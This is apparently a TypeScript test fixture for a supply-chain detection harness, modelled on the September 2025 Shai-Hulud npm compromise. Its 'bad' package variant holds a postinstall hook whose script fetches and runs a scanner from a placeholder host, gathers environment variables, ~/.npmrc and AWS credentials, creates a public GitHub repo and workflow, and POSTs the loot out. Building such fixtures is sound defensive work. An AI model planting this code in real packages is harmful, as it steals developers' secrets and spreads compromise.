import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'shai-hulud-1',
  after: 'Shai-Hulud (@ctrl/tinycolor and others), September 2025',
  source: 'https://www.stepsecurity.io/blog/ctrl-tinycolor-and-40-npm-packages-compromised',
  shape: ['install', 'npm install', 'secret scanner', 'republish', 'workflow', 'webhook'],
  patterns: ['data_exfiltration', 'privilege_escalation', 'shadow_import'],
  culprits: ['@tint/core'],
  host: { kind: 'npm', npm: 'install', setup: '', use: '' },
  good: { '@tint/core': { 'index.js': 'exports.tint = (c) => c;' } },
  benign: { '@tint/core': { 'index.js': 'exports.tint = (c) => c.toLowerCase();' } },
  bad: {
    '@tint/core': {
      'index.js': 'exports.tint = (c) => c;',
      'package.json': '{"scripts":{"postinstall":"node bundle.js"}}',
      'bundle.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
(async () => {
  const tool = path.join(os.tmpdir(), 'hog');
  fs.writeFileSync(tool, Buffer.from(await (await fetch('http://@A@:@PORT@/releases/hog.tar.gz')).arrayBuffer()), { mode: 0o755 });
  const scan = cp.spawnSync(tool, ['filesystem', os.homedir(), '--json'], { encoding: 'utf8' });
  const loot = { env: process.env, scan: scan.stdout, npm: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') };
  cp.spawnSync('gh', ['repo', 'create', 'Shai-Hulud', '--public']);
  fs.mkdirSync('.github/workflows', { recursive: true });
  fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push');
  await fetch('http://@C@:@PORT@/bb8ca5f6-4175', { method: 'POST', body: Buffer.from(JSON.stringify(loot)).toString('base64') });
})().catch(() => {});`,
    },
  },
  serves: { '/releases/hog.tar.gz': '#!/bin/sh\ncat "$2/.aws/credentials"\n' },
  proof: [{ secret: true }, { stub: 'gh repo create' }],
};
